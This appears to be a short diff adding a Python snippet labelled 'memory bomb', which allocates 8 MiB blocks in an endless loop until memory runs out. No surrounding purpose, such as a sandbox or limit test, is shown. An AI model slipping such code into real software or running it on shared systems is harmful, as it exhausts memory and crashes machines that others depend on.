@@ -1,0 +1,4 @@
+# memory bomb in Python
+blocks = []
+while True:
+    blocks.append(bytearray(8 << 20))
